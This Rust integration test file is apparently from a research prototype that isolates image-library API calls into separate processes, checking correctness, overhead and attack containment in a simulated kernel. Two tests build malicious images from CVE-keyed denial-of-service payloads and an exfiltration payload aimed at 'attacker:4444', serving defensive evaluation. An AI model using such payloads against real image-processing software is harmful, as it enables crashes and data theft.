//! Workspace-level integration tests: the full stack — analysis →
//! partitioning → runtime → applications → attacks — exercised across
//! crate boundaries.

use freepart_suite::apps::omr::{self, OmrConfig};
use freepart_suite::apps::{resolve, run_app, RunOptions, TABLE6};
use freepart_suite::attacks::{judge, payloads, AttackGoal, Verdict, TABLE5};
use freepart_suite::baselines::{build, ApiSurface, SchemeKind};
use freepart_suite::core::{Policy, Runtime};
use freepart_suite::frameworks::registry::standard_registry;
use freepart_suite::frameworks::Value;

#[test]
fn grading_results_identical_across_all_schemes() {
    // Functional correctness: every isolation scheme must grade
    // identically to the unprotected original (§5 "Correctness").
    let reg = standard_registry();
    let universe = omr::omr_universe(&reg);
    let mut reference: Option<Vec<f64>> = None;
    for kind in SchemeKind::ALL {
        let mut s = build(kind, standard_registry(), &universe);
        let r = omr::run(s.as_mut(), &OmrConfig::benign(6));
        assert_eq!(r.completed, 6, "{}", kind.name());
        assert!(r.errors.is_empty(), "{}: {:?}", kind.name(), r.errors);
        match &reference {
            None => reference = Some(r.scores),
            Some(want) => assert_eq!(&r.scores, want, "{} diverged", kind.name()),
        }
    }
}

#[test]
fn full_analysis_pipeline_feeds_the_runtime() {
    // categorize → profile → install → call, all explicit.
    use freepart_suite::analysis::{categorize, SyscallProfile, TestCorpus};
    let reg = standard_registry();
    let corpus = TestCorpus::full(&reg);
    let report = categorize(&reg, &corpus);
    assert_eq!(report.accuracy(&reg), 1.0);
    let profile = SyscallProfile::build(&reg, &corpus);
    let mut rt = Runtime::install_with(standard_registry(), report, profile, Policy::freepart());
    let img = freepart_suite::frameworks::image::Image::new(8, 8, 3);
    rt.kernel.fs_put(
        "/x.simg",
        freepart_suite::frameworks::fileio::encode_image(&img, None),
    );
    let v = rt.call("cv2.imread", &[Value::from("/x.simg")]).unwrap();
    assert!(matches!(v, Value::Obj(_)));
}

#[test]
fn every_cve_dos_is_contained_and_every_scheme_judged() {
    // Cross-crate: attacks registry ↔ frameworks vulnerabilities ↔
    // runtime containment.
    let reg = standard_registry();
    for cve in TABLE5.iter().take(4) {
        // Spot-check the imread-family CVEs end to end.
        if cve.api != "cv2.imread" {
            continue;
        }
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        let img = freepart_suite::frameworks::image::Image::new(8, 8, 3);
        rt.kernel.fs_put(
            "/evil.simg",
            freepart_suite::frameworks::fileio::encode_image(&img, Some(&payloads::dos(cve.id))),
        );
        let _ = rt.call("cv2.imread", &[Value::from("/evil.simg")]);
        let log = rt.exploit_log.clone();
        let (kernel, objects, host) = rt.attack_view();
        assert_eq!(
            judge(&AttackGoal::CrashHost, kernel, objects, host, &log),
            Verdict::Prevented,
            "{}",
            cve.id
        );
    }
    let _ = reg;
}

#[test]
fn table6_apps_run_under_freepart_with_matching_outputs() {
    // A sample of the Table 6 suite under full isolation.
    let reg = standard_registry();
    for id in [1u32, 8, 15, 20] {
        let spec = TABLE6.iter().find(|s| s.id == id).unwrap();
        let app = resolve(spec, &reg);
        let expected: u64 = app.schedules.values().map(|s| s.total() as u64).sum();
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        let report = run_app(&app, &reg, &mut rt, &RunOptions::default())
            .unwrap_or_else(|e| panic!("{}: {e}", spec.name));
        assert_eq!(report.calls, expected, "{}", spec.name);
        assert!(rt.kernel.is_running(rt.host_pid()));
    }
}

#[test]
fn freepart_overhead_stays_single_digit_on_sampled_apps() {
    for id in [3u32, 12, 21] {
        let o = freepart_bench_overhead(id);
        assert!(o > 0.0 && o < 0.10, "app {id}: overhead {o}");
    }
}

fn freepart_bench_overhead(id: u32) -> f64 {
    let reg = standard_registry();
    let spec = TABLE6.iter().find(|s| s.id == id).unwrap();
    let app = resolve(spec, &reg);
    let opts = RunOptions::default();
    let base = {
        let mut rt = freepart_suite::baselines::MonolithicRuntime::original(standard_registry());
        rt.kernel.reset_accounting();
        run_app(&app, &reg, &mut rt, &opts).unwrap();
        rt.kernel.clock().now_ns()
    };
    let fp = {
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        rt.kernel.reset_accounting();
        run_app(&app, &reg, &mut rt, &opts).unwrap();
        rt.kernel.clock().now_ns()
    };
    fp as f64 / base.max(1) as f64 - 1.0
}

#[test]
fn exploit_in_one_agent_never_reaches_other_agents_memory() {
    // Structural isolation: plant distinct markers in every process and
    // verify a loading-agent exploit can only read its own.
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    let img = freepart_suite::frameworks::image::Image::new(8, 8, 3);
    rt.kernel.fs_put(
        "/w.simg",
        freepart_suite::frameworks::fileio::encode_image(&img, None),
    );
    // Put a marker object in the processing agent by running a filter.
    let loaded = rt.call("cv2.imread", &[Value::from("/w.simg")]).unwrap();
    let processed = rt.call("cv2.GaussianBlur", &[loaded]).unwrap();
    let p_meta = rt
        .objects
        .meta(processed.as_obj().unwrap())
        .unwrap()
        .clone();
    // Attack: exfiltrate the processing agent's buffer from the loading
    // agent (same numeric address, different address space).
    rt.kernel.fs_put(
        "/evil.simg",
        freepart_suite::frameworks::fileio::encode_image(
            &img,
            Some(&payloads::exfiltrate(
                "CVE-2017-12597",
                p_meta.buffer.unwrap().0 .0,
                16,
                "attacker:4444",
            )),
        ),
    );
    let _ = rt.call("cv2.imread", &[Value::from("/evil.simg")]);
    // Whatever bytes the attacker read from its own address space, the
    // processing agent's actual data never reached the network.
    let actual = rt
        .objects
        .read_bytes(&mut rt.kernel, processed.as_obj().unwrap())
        .unwrap();
    assert!(!rt.kernel.network.leaked(&actual[..16.min(actual.len())]));
}

#[test]
fn study_corpus_and_eval_apps_share_the_catalog() {
    // The 56-app study and the 23 eval apps must reference only
    // registered APIs (no dangling ids anywhere in the workspace data).
    let reg = standard_registry();
    for sketch in freepart_suite::apps::study_corpus(&reg) {
        for id in &sketch.calls {
            let _ = reg.spec(*id); // panics on a bad id
        }
    }
    for spec in TABLE6 {
        for id in resolve(spec, &reg).universe() {
            let _ = reg.spec(id);
        }
    }
}
